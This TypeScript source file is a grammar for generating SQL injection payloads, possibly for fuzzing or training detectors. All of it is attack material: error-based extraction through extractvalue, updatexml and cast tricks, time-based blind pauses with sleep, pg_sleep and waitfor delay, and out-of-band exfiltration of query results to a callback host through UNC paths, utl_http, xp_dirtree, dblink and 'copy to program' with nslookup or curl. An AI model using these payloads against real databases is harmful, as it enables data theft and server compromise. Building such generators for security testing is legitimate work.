/** Queries that make the server talk in its error messages, or by the time that it takes. */
import { characters, DIGITS, integer, maybe, oneOf, type Rule, text, weighted, words } from '../../grammar.ts';
import { CALLBACK_HOST, MARKER } from '../hosts.ts';
import { PLAUSIBLE_VALUE } from '../plausible-values.ts';
import { QUESTION } from './conditions.ts';
import { CLOSING, COMMENT_OUT, delivered, deliveredBodies, LEAD } from './frame.ts';
import { FOUR_DIGITS, FOUR_LETTERS, QUERY, SERVER_VALUE, TABLE } from './vocabulary.ts';

const ASKED: Rule = weighted([2, text`(${QUERY})`], [2, SERVER_VALUE]);
const MARK: Rule = words("0x7e 0x3a '~' char(126) 0x5c 0x7178 '^' 0x0a chr(126)");
const LOGIC: Rule = words('and or AND OR || && xor');

const ERROR: Rule = oneOf(
  text`extractvalue(${integer(1, 9)},concat(${MARK},${ASKED}${maybe(text`,${MARK}`)}))`,
  text`updatexml(${integer(1, 9)},concat(${MARK},${ASKED},${MARK}),${integer(1, 9)})`,
  text`extractvalue(rand(),concat(0x3a,${ASKED}))`,
  text`(select 1 from (select count(*),concat(${ASKED},${MARK},floor(rand(0)*2))x from ${oneOf('information_schema.tables', 'information_schema.character_sets', TABLE)} group by x)a)`,
  text`(SELECT ${FOUR_DIGITS} FROM(SELECT COUNT(*),CONCAT(0x71,(${QUERY}),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)`,
  text`row(1,1)>(select count(*),concat(${ASKED},0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)`,
  text`exp(~(select*from(${QUERY})a))`,
  text`gtid_subset(concat(${MARK},${ASKED}),${integer(1, 9999)})`,
  text`gtid_subtract(${ASKED},1)`,
  text`json_keys((select convert((${QUERY}) using utf8)))`,
  text`${words('geometrycollection polygon multipoint linestring multilinestring')}((select*from(select*from(${QUERY})a)b))`,
  text`st_latfromgeohash(${ASKED})`,
  text`name_const(${SERVER_VALUE},1)`,
  text`(select*from(select name_const(version(),1),name_const(version(),1))a)`,
  text`convert(int,${ASKED})`,
  text`1=convert(int,(${QUERY}))`,
  text`${integer(1, 9)}=cast(${ASKED} as ${words('int integer numeric bigint float')})`,
  text`cast(${ASKED} as ${words('int numeric date signed')})`,
  text`1=cast((chr(113)||(${QUERY})::text||chr(113)) as numeric)`,
  text`${FOUR_DIGITS} IN (SELECT (CHAR(113)+(${QUERY})+CHAR(113)))`,
  text`1=ctxsys.drithsx.sn(1,(${QUERY}))`,
  text`1=utl_inaddr.get_host_${words('name address')}((${QUERY}))`,
  text`${FOUR_DIGITS}=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(${QUERY})||CHR(62))) FROM DUAL)`,
  text`dbms_xdb_version.${words('checkin makeversioned uncheckout')}((${QUERY})) is not null`,
  text`ordsys.ord_dicom.getmappingxpath((${QUERY}),1,1)=1`,
  text`dbms_utility.sqlid_to_sqlhash((${QUERY})) is not null`,
  text`1=(select count(*) from all_users t1,all_users t2 where ${SERVER_VALUE} is not null)/0`,
  text`db_name(${integer(0, 9)})>0`,
  text`${integer(1, 9)}/(case when ${QUESTION} then 0 else 1 end)`,
  text`(select ${integer(1, 9)}/0 from ${TABLE} where ${QUESTION})`,
  text`load_extension(${SERVER_VALUE})`,
  text`abs(-9223372036854775808)=(${QUERY})`,
  text`json(${ASKED})`,
  text`file_name(${ASKED})`,
  text`query_to_xml('${QUERY}',true,true,'')`,
  text`xpath('/${MARKER}',query_to_xml('${QUERY}',true,false,''))`,
);

/** Errors that quote what was asked for. */
export const errorBased: Rule = delivered(
  weighted(
    [7, text`${oneOf(PLAUSIBLE_VALUE, text`${LEAD}${CLOSING}`)} ${LOGIC} ${ERROR}${maybe(COMMENT_OUT, 0.7)}`],
    [2, text`${LEAD}'${oneOf('-', '+', '||', '^', '*', '|')}${ERROR}${oneOf('-', '+', '||', '^', '*')}'`],
    [1, text`(${ERROR})`],
    [1, text`${PLAUSIBLE_VALUE}${oneOf(',', '-', '*', '/', '^')}${ERROR}`],
    [1, text`${LEAD}${CLOSING};select ${ERROR}${COMMENT_OUT}`],
    [0.5, text`${PLAUSIBLE_VALUE} procedure analyse(${ERROR},1)`],
    [0.5, text`${PLAUSIBLE_VALUE} order by ${ERROR}`],
  ),
);

const SECONDS: Rule = weighted([5, integer(1, 15)], [1, integer(16, 120)], [0.5, words('0.5 2.5 5.0 0x5 1e1')]);
const PAUSE: Rule = oneOf(
  text`sleep(${SECONDS})`,
  text`SLEEP(${SECONDS})`,
  text`sleep/**/(${SECONDS})`,
  text`sleep (${SECONDS})`,
  text`benchmark(${words('1000000 5000000 10000000 50000000')},${words("md5(1) sha1(1) md5(0x41) encode('a','b') sha2('x',512) md5(now())")})`,
  text`pg_sleep(${SECONDS})`,
  text`pg_sleep_for('${SECONDS} seconds')`,
  text`dbms_pipe.receive_message(('${MARKER}'),${SECONDS})`,
  text`dbms_pipe.receive_message(chr(97)||chr(98),${SECONDS})`,
  text`like('abcdefg',upper(hex(randomblob(${integer(1, 9)}00000000/2))))`,
  text`randomblob(${integer(1, 9)}${characters(DIGITS, 7, 8)})`,
  text`(select count(*) from generate_series(1,${integer(1, 9)}000000))`,
  text`(select count(*) from all_users a,all_users b,all_users c,all_users d)`,
  text`(select count(*) from sysusers a,sysusers b,sysusers c,sysusers d)`,
  text`get_lock('${MARKER}',${SECONDS})`,
);

const CLOCK: Rule = text`0:0:${oneOf(integer(1, 9), integer(10, 59))}`;
const WAIT: Rule = weighted(
  [6, text`waitfor delay '${oneOf(CLOCK, text`00:00:${integer(10, 30)}`, text`0:0:0${integer(1, 9)}`)}'`],
  [1, text`waitfor time '${integer(10, 23)}:${integer(10, 59)}'`],
  [1, text`if(${QUESTION}) waitfor delay '${CLOCK}'`],
  [1, text`begin dbms_lock.sleep(${SECONDS}); end;`],
  [1, text`begin dbms_session.sleep(${SECONDS}); end;`],
  [1, text`select pg_sleep(${SECONDS})`],
  [1, text`select ${PAUSE}`],
  [1, text`do sleep(${SECONDS})`],
  [1, text`select case when (${QUESTION}) then pg_sleep(${SECONDS}) else pg_sleep(0) end`],
  [0.5, text`select sleep(${SECONDS}) from ${TABLE}`],
  [0.5, text`call sleep(${SECONDS})`],
);

const SLOW_CONDITION: Rule = oneOf(
  PAUSE,
  PAUSE,
  text`${PAUSE}=${integer(0, 1)}`,
  text`if(${QUESTION},${PAUSE},${integer(0, 1)})`,
  text`(select ${PAUSE})`,
  text`(select*from(select(${PAUSE}))${characters('abcdefghijkl', 1, 4)})`,
  text`(SELECT ${FOUR_DIGITS} FROM (SELECT(SLEEP(${SECONDS}-(IF(${QUESTION},0,5)))))${FOUR_LETTERS})`,
  text`${FOUR_DIGITS}=(select ${FOUR_DIGITS} from pg_sleep(${SECONDS}))`,
  text`(case when ${QUESTION} then ${PAUSE} else ${integer(0, 1)} end)`,
  text`elt(${QUESTION},${PAUSE})`,
  text`1=(select 1 from pg_sleep(${SECONDS}))`,
);

/** Pauses in conditions, in stacked statements and inside strings. */
export const timeBased: Rule = delivered(
  weighted(
    [6, text`${oneOf(PLAUSIBLE_VALUE, text`${LEAD}${CLOSING}`)} ${LOGIC} ${SLOW_CONDITION}${maybe(COMMENT_OUT, 0.7)}`],
    [4, text`${LEAD}${maybe(CLOSING, 0.8)}; ${WAIT}${maybe(COMMENT_OUT, 0.8)}`],
    [2, text`${LEAD}${maybe(CLOSING, 0.8)};${WAIT}${COMMENT_OUT}`],
    [1, text`${LEAD}${CLOSING} ${WAIT}${COMMENT_OUT}`],
    [
      2,
      text`${LEAD}'${oneOf('+', '||', '-', '^', 'xor', '|', '&&')}${oneOf(SLOW_CONDITION, text`(${PAUSE})`)}${oneOf('+', '||', '-', '^', 'xor', '|')}'`,
    ],
    [1, text`${LEAD}'XOR(if(now()=sysdate(),${PAUSE},0))XOR'Z`],
    [1, text`if(now()=sysdate(),${PAUSE},0)`],
    [1, SLOW_CONDITION],
    [
      0.5,
      text`(select(0)from(select(${PAUSE}))v)/*'+(select(0)from(select(${PAUSE}))v)+'"+(select(0)from(select(${PAUSE}))v)+"*/`,
    ],
    [1, text`${PLAUSIBLE_VALUE}${oneOf('-', '+', '*', '/', '|')}${SLOW_CONDITION}`],
    [0.5, text`${LEAD} order by ${SLOW_CONDITION}`],
  ),
);

const OUT_OF_BAND: Rule = oneOf(
  text`load_file(concat('\\\\\\\\',(${QUERY}),'.${CALLBACK_HOST}\\\\a'))`,
  text`load_file('\\\\${CALLBACK_HOST}\\${MARKER}')`,
  text`utl_http.request('http://${CALLBACK_HOST}/'||(${QUERY}))`,
  text`utl_inaddr.get_host_address((${QUERY})||'.${CALLBACK_HOST}')`,
  text`dbms_ldap.init((${QUERY})||'.${CALLBACK_HOST}',80)`,
  text`httpuritype('http://${CALLBACK_HOST}/'||(${QUERY})).getclob()`,
  text`(select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % ${MARKER} SYSTEM "http://${CALLBACK_HOST}/">%${MARKER};]>'),'/l') from dual)`,
);
const OUT_OF_BAND_STATEMENT: Rule = oneOf(
  text`exec master${oneOf('..', '.dbo.')}xp_${words('dirtree fileexist subdirs')} '\\\\${CALLBACK_HOST}\\${MARKER}'`,
  text`declare @q varchar(99);set @q='\\\\${CALLBACK_HOST}\\${MARKER}';exec master.dbo.xp_dirtree @q`,
  text`declare @p varchar(1024);set @p=(${QUERY});exec('master..xp_dirtree "//'+@p+'.${CALLBACK_HOST}/a"')`,
  text`copy (${QUERY}) to program 'nslookup ${CALLBACK_HOST}'`,
  text`copy ${TABLE} from program 'curl ${CALLBACK_HOST}'`,
  text`select dblink_connect('host=${CALLBACK_HOST} user=a password=a dbname='||(${QUERY}))`,
  text`select * from openrowset('SQLOLEDB','${CALLBACK_HOST}';'sa';'pw','select 1')`,
  text`create extension dblink`,
);

/** Answers that leave by DNS, HTTP or SMB. */
export const outOfBand: Rule = weighted(
  [
    2,
    deliveredBodies(
      text`${LOGIC} ${OUT_OF_BAND}`,
      text`union select ${OUT_OF_BAND}`,
      text`${LOGIC} (select ${OUT_OF_BAND}) is not null`,
    ),
  ],
  [1, delivered(text`${LEAD}'||(select ${OUT_OF_BAND} from dual)||'`)],
  [2, delivered(text`${LEAD}${maybe(CLOSING, 0.8)};${maybe(' ')}${OUT_OF_BAND_STATEMENT}${maybe(COMMENT_OUT, 0.8)}`)],
);
